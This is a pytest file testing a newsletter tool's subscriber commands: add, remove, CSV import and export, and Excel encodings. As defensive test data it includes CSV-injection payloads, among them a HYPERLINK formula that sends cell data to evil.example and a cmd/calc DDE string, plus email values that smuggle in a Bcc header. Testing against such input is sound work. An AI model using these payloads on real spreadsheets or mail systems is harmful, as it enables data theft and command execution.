"""Managing subscribers from the command line (SPEC.md "Commands"): add, remove, list, import and
export, as an admin does it, with malformed addresses refused and named.

Commands run as processes against a real SQLite file; what the database then holds is read back
with `trnews subscribers list --json` or, where only the outcome matters, with the store itself.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import subprocess
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

import pytest
from support.mail import text_part
from support.site import Site

from pipeline.models import SubscriberState
from pipeline.store import Store

NO_BOUNCES = {"bounces": 0, "last_bounce": None}
"""What `subscribers list --json` says of a reader nothing came back for."""


def listed(site: Site, *args: str) -> list[dict[str, object]]:
    """`trnews subscribers list --json [ARGS]`."""
    return json.loads(site.run("subscribers", "list", "--json", *args).stdout)


def in_database(site: Site) -> dict[str, tuple[str, str]]:
    """Every subscriber in the site's database: email → (name, state)."""
    if not site.db.exists():
        return {}
    with Store.open(site.db) as store:
        return {s.email: (s.name, s.state.value) for s in store.subscribers()}


def write_csv(site: Site, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = site.root / name
    path.write_text(text, encoding=encoding, newline="")
    return path


def rss(*titles: str) -> bytes:
    """A feed with one item per title, each dated yesterday."""
    date = format_datetime(datetime.now(UTC) - timedelta(days=1))
    items = "".join(
        f"<item><title>{t}</title><link>https://kari.example.org/{i}</link>"
        f"<pubDate>{date}</pubDate><description>Om {t}.</description></item>"
        for i, t in enumerate(titles)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Blogg</title>'
        f"<link>https://kari.example.org</link>{items}</channel></rss>"
    ).encode()


# -- add, remove, list -------------------------------------------------------------------------


def test_an_added_address_is_active_at_once_and_adding_it_again_says_so(site: Site) -> None:
    added = site.run("subscribers", "add", "kari@example.org", "--name", "Kari Nordmann")
    again = site.run("subscribers", "add", "kari@example.org")

    assert "Added kari@example.org (active)" in added.stdout
    assert "kari@example.org is already active" in again.stdout
    [line] = site.run("subscribers", "list").stdout.splitlines()
    assert line.split() == ["kari@example.org", "active", "Kari", "Nordmann"]


def test_adding_a_known_address_keeps_its_name_and_says_how_to_rename(site: Site) -> None:
    site.run("subscribers", "add", "kari@example.org", "--name", "Kari Nordmann")
    again = site.run("subscribers", "add", "kari@example.org", "--name", "K. N.")

    assert "is already active" in again.stdout
    assert "Its name stays 'Kari Nordmann'" in again.stdout
    assert "trnews subscribers rename kari@example.org 'K. N.'" in again.stdout
    assert [(e["name"], e["state"]) for e in listed(site)] == [("Kari Nordmann", "active")]

    renamed = site.run("subscribers", "rename", "kari@example.org", "K. N.")
    assert "kari@example.org is now named 'K. N.' (was 'Kari Nordmann')" in renamed.stdout
    assert [e["name"] for e in listed(site)] == ["K. N."]
    # An address without a name takes the one an `add` gives it: nothing is lost.
    site.run("subscribers", "add", "ola@example.org")
    site.run("subscribers", "add", "ola@example.org", "--name", "Ola")
    assert {e["email"]: e["name"] for e in listed(site)}["ola@example.org"] == "Ola"
    unknown = site.run("subscribers", "rename", "nobody@example.org", "X", check=False)
    assert unknown.returncode == 2
    assert "nobody@example.org is not a subscriber" in unknown.stderr


def test_an_address_in_another_case_is_the_same_subscriber(site: Site) -> None:
    site.run("subscribers", "add", "Kari@Example.org", "--name", "Kari Nordmann")
    again = site.run("subscribers", "add", "kari@example.org")
    removed = site.run("subscribers", "remove", "KARI@EXAMPLE.ORG")

    assert "already active" in again.stdout
    assert "Unsubscribed" in removed.stdout
    [entry] = listed(site)
    assert entry["email"].lower() == "kari@example.org"
    assert (entry["name"], entry["state"]) == ("Kari Nordmann", "unsubscribed")


def test_a_removed_reader_gets_no_more_editions_and_an_erased_one_is_forgotten(
    site: Site,
) -> None:
    feed = site.root / "kari.xml"
    feed.write_bytes(rss("Første innlegg"))
    site.ambassador("kari-nordmann", "Kari Nordmann", "", [{"url": "kari.xml", "kind": "blog"}])
    readers = write_csv(
        site,
        "readers.csv",
        "email,name\nanne@example.org,Anne\nbjorn@example.org,Bjørn\ncarl@example.org,Carl\n",
    )
    site.run("subscribers", "import", str(readers))
    site.run("collect")
    site.run("send")
    assert sorted(str(m["To"]) for m in site.messages()) == [
        "Anne <anne@example.org>",
        "Bjørn <bjorn@example.org>",
        "Carl <carl@example.org>",
    ]

    site.run("subscribers", "remove", "anne@example.org")
    erased = site.run("subscribers", "remove", "--erase", "bjorn@example.org")
    feed.write_bytes(rss("Første innlegg", "Andre innlegg"))
    site.run("collect")
    site.run("send")

    second = [m for m in site.messages() if "Andre innlegg" in text_part(m)]
    assert [str(m["To"]) for m in second] == ["Carl <carl@example.org>"]
    assert "Erased bjorn@example.org" in erased.stdout
    assert listed(site) == [
        {"email": "anne@example.org", "name": "Anne", "state": "unsubscribed", **NO_BOUNCES},
        {"email": "carl@example.org", "name": "Carl", "state": "active", **NO_BOUNCES},
    ]
    export = site.run("subscribers", "export").stdout
    assert "anne@example.org" in export and "bjorn" not in export
    with sqlite3.connect(site.db) as conn:  # not in the delivery ledger either
        rows = conn.execute("SELECT count(*) FROM deliveries WHERE email LIKE '%bjorn%'")
        assert rows.fetchone()[0] == 0


@pytest.mark.parametrize("erase", [False, True], ids=["remove", "erase"])
def test_removing_an_unknown_address_exits_2_naming_it(site: Site, erase: bool) -> None:
    proc = site.run(
        "subscribers", "remove", *(["--erase"] if erase else []), "ola@example.org", check=False
    )

    assert proc.returncode == 2
    assert "ola@example.org is not a subscriber" in proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize(
    ("address", "name", "named"),
    [
        ("not-an-address", "", "not-an-address"),
        ("a@b", "", "a@b"),
        ("kari@@example.org", "", "kari@@example.org"),
        ("kari@example.org\nBcc: x@y.org", "", "kari@example.org\\nBcc: x@y.org"),
        ("kari@example.org", "Kari\r\nBcc: x@y.org", "kari@example.org"),
    ],
    ids=["no-at", "no-dot-in-domain", "two-at", "header-in-address", "header-in-name"],
)
def test_a_malformed_address_or_name_is_refused_and_nothing_is_added(
    site: Site, address: str, name: str, named: str
) -> None:
    proc = site.run("subscribers", "add", address, "--name", name, check=False)

    assert proc.returncode == 2
    assert named in proc.stderr
    assert "Traceback" not in proc.stderr
    assert in_database(site) == {}


# -- import and export -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        (
            "email,name\nkari@example.org,Kari Nordmann\nola@example.org,\n",
            "utf-8",
        ),
        (
            "Navn;Email;Name;Telefon\nx;kari@example.org;Kari Nordmann;99\ny;ola@example.org;;98\n",
            "utf-8-sig",  # Excel's "CSV UTF-8": a BOM, and ';' where ',' is the decimal mark
        ),
        (
            'EMAIL,Name,Kommune\r\n"kari@example.org","Kari Nordmann",Malvik\r\n'
            'ola@example.org,"",Skaun\r\n\r\n',
            "utf-8",
        ),
    ],
    ids=["plain", "excel-semicolon-bom-extra-columns", "quoted-crlf-capitalised"],
)
def test_import_reads_csv_as_spreadsheets_write_it(site: Site, text: str, encoding: str) -> None:
    path = write_csv(site, "readers.csv", text, encoding)

    out = site.run("subscribers", "import", str(path)).stdout

    assert "2 added" in out
    assert in_database(site) == {
        "kari@example.org": ("Kari Nordmann", "active"),
        "ola@example.org": ("", "active"),
    }


def test_import_leaves_known_addresses_alone_and_never_resubscribes_anyone(site: Site) -> None:
    first = write_csv(
        site,
        "first.csv",
        "email,name\nanne@example.org,Anne\nulla@example.org,Ulla\nbo@example.org,Bo\n",
    )
    site.run("subscribers", "import", str(first))
    site.run("subscribers", "remove", "ulla@example.org")
    with Store.open(site.db) as store:  # as a bounce handler would record it
        store.set_subscriber_state("bo@example.org", SubscriberState.BOUNCED, datetime.now(UTC))
    again = write_csv(
        site,
        "again.csv",
        "email,name\nANNE@example.org,Anne Annen\nulla@example.org,Ulla\n"
        "Bo@Example.org,Bo\nnils@example.org,Nils\n",
    )

    out = site.run("subscribers", "import", str(again)).stdout

    assert "1 added" in out and "1 already subscribed" in out and "2 left out" in out
    assert in_database(site) == {
        "anne@example.org": ("Anne", "active"),
        "ulla@example.org": ("Ulla", "unsubscribed"),
        "bo@example.org": ("Bo", "bounced"),
        "nils@example.org": ("Nils", "active"),
    }
    assert listed(site, "--state", "active") == [
        {"email": "anne@example.org", "name": "Anne", "state": "active", **NO_BOUNCES},
        {"email": "nils@example.org", "name": "Nils", "state": "active", **NO_BOUNCES},
    ]


def test_import_with_malformed_addresses_names_every_bad_line_and_imports_nothing(
    site: Site,
) -> None:
    path = write_csv(
        site,
        "readers.csv",
        "email,name\n"
        "kari@example.org,Kari\n"
        "ola(at)example.org,Ola\n"
        "siri@example.org,Siri\n"
        ",Navnløs\n"
        "jonas@example,Jonas\n",
    )

    proc = site.run("subscribers", "import", str(path), check=False)

    assert proc.returncode == 2
    assert "nothing imported" in proc.stderr
    for line, address in ((3, "ola(at)example.org"), (5, ""), (6, "jonas@example")):
        assert f"{path}:{line}: '{address}'" in proc.stderr, proc.stderr
    assert f"{path}:2:" not in proc.stderr and f"{path}:4:" not in proc.stderr
    assert "Traceback" not in proc.stderr
    assert in_database(site) == {}


def test_import_without_an_email_column_exits_2_and_says_what_is_needed(site: Site) -> None:
    path = write_csv(site, "readers.csv", "navn,adresse\nKari,kari@example.org\n")

    proc = site.run("subscribers", "import", str(path), check=False)

    assert proc.returncode == 2
    assert str(path) in proc.stderr
    assert "'email' column" in proc.stderr
    assert "navn, adresse" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert in_database(site) == {}


def test_export_is_csv_that_import_reads_back_into_a_fresh_database(site: Site) -> None:
    readers = write_csv(
        site,
        "readers.csv",
        'email,name\nanne@example.org,"Nordmann, Åse «Anne»"\n'
        'bjorn@example.org,"Bjørn ""Bass"" Berg"\nulla@example.org,\n',
    )
    site.run("subscribers", "import", str(readers))
    site.run("subscribers", "remove", "ulla@example.org")

    export = site.run("subscribers", "export").stdout

    assert export.splitlines()[0] == "email,name,state,created"
    rows = list(csv.DictReader(io.StringIO(export)))
    assert [(r["email"], r["name"], r["state"]) for r in rows] == [
        ("anne@example.org", "Nordmann, Åse «Anne»", "active"),
        ("bjorn@example.org", 'Bjørn "Bass" Berg', "active"),
        ("ulla@example.org", "", "unsubscribed"),
    ]
    assert all(datetime.fromisoformat(r["created"]).tzinfo is not None for r in rows)

    fresh = Site(root=site.root / "fresh")
    fresh.root.mkdir()
    fresh.run("subscribers", "import", str(write_csv(fresh, "export.csv", export)))
    # Ulla stays unsubscribed: a round trip never signs anyone up again.
    assert in_database(fresh) == in_database(site)


# -- exports a spreadsheet cannot run ----------------------------------------------------------

FORMULA_START = re.compile(r"[=+\-@\t\r]")
"""What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection")."""
ROUND_TRIP = {
    "formel@example.org": '=HYPERLINK("http://evil.example/?d="&A3,"Klikk")',
    "pluss@example.org": "+47 915 00 000",
    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
    "krolla@example.org": "@SUM(1+9)",
    "sitat@example.org": "'=1+2",
    "apostrof@example.org": "'Kari",
    "=ola@example.org": "Ola",
    "bjorn@example.org": 'Bjørn "Bass" Berg',
}
"""Names (and an address) that start like formulas, or like a cell made safe, and a plain one."""


def test_no_exported_cell_starts_a_formula_even_one_stored_before_names_were_checked(
    site: Site,
) -> None:
    for address, name in ROUND_TRIP.items():
        site.run("subscribers", "add", address, "--name", name)
    with Store.open(site.db) as store:  # rows an older trnews could have stored
        for address, name in [
            ("tab@example.org", "\t=1+2"),
            ("cr@example.org", "\r=1+2"),
            ("midt@example.org", "Kari\r=1+2,"),  # a bare CR would start a row
        ]:
            store.add_subscriber(
                address, name, state=SubscriberState.ACTIVE, source="admin", now=datetime.now(UTC)
            )

    proc = subprocess.run(  # bytes: text mode would turn the carriage return into a newline
        site.command("subscribers", "export"),
        cwd=site.root,
        env=site.process_env(),
        capture_output=True,
        check=True,
    )
    exported = proc.stdout.decode("utf-8")

    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert [c for c in cells if FORMULA_START.match(c)] == []
    names = {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(exported, newline=""))}
    assert names["formel@example.org"] == "'" + ROUND_TRIP["formel@example.org"]
    assert names["tab@example.org"] == "'\t=1+2"
    assert names["cr@example.org"] == "'\r=1+2"
    assert names["midt@example.org"] == "Kari\r=1+2,"
    assert names["apostrof@example.org"] == "'Kari"  # no formula: left as it is
    assert names["sitat@example.org"] == "''=1+2"


def test_an_export_imported_into_a_fresh_database_gives_back_the_same_names(site: Site) -> None:
    for address, name in ROUND_TRIP.items():
        site.run("subscribers", "add", address, "--name", name)
    site.run("subscribers", "remove", "minus@example.org")
    exported = site.run("subscribers", "export").stdout

    fresh = Site(root=site.root / "fresh")
    fresh.root.mkdir()
    fresh.run("subscribers", "import", str(write_csv(fresh, "export.csv", exported)))

    assert in_database(fresh) == in_database(site)
    assert {email: name for email, (name, _) in in_database(fresh).items()} == ROUND_TRIP


def test_a_csv_field_too_large_to_read_is_refused_naming_its_line(site: Site) -> None:
    huge = "x" * (200 * 1024)
    path = write_csv(
        site, "readers.csv", f'email,name\nanne@example.org,Anne\nbjorn@example.org,"{huge}"\n'
    )

    proc = site.run("subscribers", "import", str(path), check=False)

    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert f"{path}:3:" in proc.stderr
    assert "field larger than field limit" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert in_database(site) == {}


# -- what Excel in Norway writes and reads -----------------------------------------------------

NORWEGIAN = {
    "kari@example.org": "Kari Ødegård",
    "ola@example.org": "Ola Bjørnstad Åsen",
    "siri@example.org": "Siri Kvæl",
}
"""Names with the letters windows-1252 and UTF-8 write differently."""


def run_bytes(site: Site, *args: str, check: bool = True) -> subprocess.CompletedProcess[bytes]:
    """`trnews ARGS` with its output as the bytes it wrote, for what a spreadsheet will open."""
    site.write()
    return subprocess.run(
        site.command(*args),
        cwd=site.root,
        env=site.process_env(),
        capture_output=True,
        check=check,
        timeout=120,
    )


def lines(header: str, sep: str, end: str = "\r\n") -> str:
    return end.join([header, *(f"{e}{sep}{n}" for e, n in NORWEGIAN.items())]) + end


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        # "CSV (semikolondelt)" as Excel in Norway saves it: windows-1252, ';', CRLF, no BOM.
        (lines("E-post;Navn", ";"), "cp1252"),
        # "CSV UTF-8 (kommadelt)" on the same machine: a BOM, and still ';'.
        (lines(" epost ; NAVN ", ";"), "utf-8-sig"),
        # Tab-separated, as copied out of a sheet, headers in English.
        (lines("Email\tName", "\t", "\n"), "utf-8"),
        # "Unicode-tekst": UTF-16 with a BOM, tabs.
        (lines("E-postadresse\tNavn", "\t"), "utf-16"),
    ],
    ids=["semikolondelt-cp1252", "utf8-bom-semicolons", "tabs", "utf16-tabs"],
)
def test_import_reads_what_excel_in_norway_saves(site: Site, text: str, encoding: str) -> None:
    path = site.root / "lesere.csv"
    path.write_bytes(text.encode(encoding))

    proc = site.run("subscribers", "import", str(path), check=False)

    assert proc.returncode == 0, proc.stderr
    assert "3 added" in proc.stdout
    assert ("windows-1252" in proc.stdout) == (encoding == "cp1252")
    assert {e: name for e, (name, _) in in_database(site).items()} == NORWEGIAN


def test_a_file_in_no_encoding_a_spreadsheet_writes_names_the_line_and_the_fix(
    site: Site,
) -> None:
    path = site.root / "lesere.csv"
    # 0x81 is a letter neither in UTF-8 (alone) nor in windows-1252.
    path.write_bytes(b"E-post;Navn\r\nkari@example.org;Kari\r\nola@example.org;Ola \x81\r\n")

    proc = site.run("subscribers", "import", str(path), check=False)

    assert proc.returncode == 2
    assert f"{path}:3:" in proc.stderr
    assert "CSV UTF-8" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert in_database(site) == {}


def test_export_for_excel_opens_as_it_is_and_imports_back_the_same(site: Site) -> None:
    for address, name in {**NORWEGIAN, **ROUND_TRIP}.items():
        site.run("subscribers", "add", address, "--name", name)
    site.run("subscribers", "remove", "ola@example.org")

    data = run_bytes(site, "subscribers", "export", "--excel").stdout

    assert data.startswith(b"\xef\xbb\xbfemail;name;state;created\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 1 + len(NORWEGIAN) + len(ROUND_TRIP)
    text = data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert {r["email"]: r["name"] for r in rows if r["email"] in NORWEGIAN} == NORWEGIAN
    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]
    assert [c for c in cells if FORMULA_START.match(c)] == []

    fresh = Site(root=site.root / "fresh")
    fresh.root.mkdir()
    exported = fresh.root / "abonnenter.csv"
    exported.write_bytes(data)
    fresh.run("subscribers", "import", str(exported))
    assert in_database(fresh) == in_database(site)
    assert in_database(fresh)["ola@example.org"] == (NORWEGIAN["ola@example.org"], "unsubscribed")


def test_excel_goes_with_the_csv_export_only(site: Site) -> None:
    site.run("subscribers", "add", "kari@example.org")

    proc = site.run("subscribers", "export", "--excel", "--json", check=False)

    assert proc.returncode == 2
    assert "--excel" in proc.stderr and "Traceback" not in proc.stderr
    assert proc.stdout == ""
